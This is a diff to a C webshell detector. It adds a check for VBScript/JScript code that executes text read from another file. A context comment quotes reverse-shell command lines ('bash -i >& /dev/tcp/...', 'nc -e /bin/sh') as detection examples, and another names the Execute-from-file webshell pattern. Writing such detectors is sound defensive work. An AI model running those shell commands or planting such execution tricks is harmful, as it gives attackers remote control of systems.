@@ -251,6 +251,23 @@ static int runtime_decoded(const lang_ctx *c, size_t a, size_t b, char *name, si
   return 1;
 }
 
+/* Execute(fso.OpenTextFile(p).ReadAll), Execute(s) with s = st.ReadText:
+ * code kept in another file (an image, a log) and run from there. */
+static int reads_file(lang_ctx *c, size_t a, size_t b) {
+  static const char *const reads[] = {"readall", "readtext", "readtoend", "readalltext"};
+  for (size_t i = a; i < b; i++) {
+    const token *t = &c->st[i];
+    if (t->kind != TK_IDENT) continue;
+    const char *s = tok_text(c, t), *dot = strrchr(s, '.'), *last = dot ? dot + 1 : s;
+    for (size_t k = 0; (dot || (i > a && is_op(c, i - 1, "."))) && k < sizeof reads / sizeof reads[0]; k++)
+      if (strcmp(last, reads[k]) == 0) return 1; /* x.ReadAll, OpenTextFile(p).ReadAll */
+    sym *sy = lang_sym_get(c, s, t->len, 0);
+    if (sy && sy->has_type && sy->type_len == 8 && memcmp(c->persist.buf + sy->type_off, "fileread", 8) == 0)
+      return 1;
+  }
+  return 0;
+}
+
 /* A constant command line that hands a shell to a remote host:
  * "bash -i >& /dev/tcp/host/port 0>&1", "nc -e /bin/sh host port". */
 static int reverse_shell(const lang_ctx *c, size_t a, size_t b) {
@@ -391,6 +408,9 @@ static void check_sink(lang_ctx *c, const name_def *d, const char *display, unsi
         add_detection(c, "shellsift.lang.code-exec", "webshell", 60, line,
                       "%s runs a string with full trust (\"unsafe\", the China Chopper form) (line %u)", display,
                       line);
+      else if ((c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && reads_file(c, a, b))
+        add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line,
+                      "%s runs code read from a file (line %u)", display, line);
       else if ((c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && lang_decoded_value(c, a, b, note, sizeof note))
         add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line,
                       "%s runs code that the page's decoder %s() returns (line %u)", display, note, line);
@@ -687,6 +707,8 @@ static void record_assignment(lang_ctx *c, size_t eq, int cond) {
   char dec[48];
   if (!typed && a < b && (c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && lang_decoded_value(c, a, b, dec, sizeof dec))
     typed = snprintf(type, sizeof type, "decoded:%s", dec) > 0; /* code = Decode(data): Execute code later */
+  else if (!typed && a < b && (c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && reads_file(c, a, b))
+    typed = snprintf(type, sizeof type, "fileread") > 0;
   int is_const = b == a + 1 && c->st[a].kind == TK_STR && !(c->st[a].flags & TF_INTERP) && c->st[a].len < 65536;
   sym *s = lang_sym_get(c, name, n, tainted || typed || is_const);
   if (!s) return;
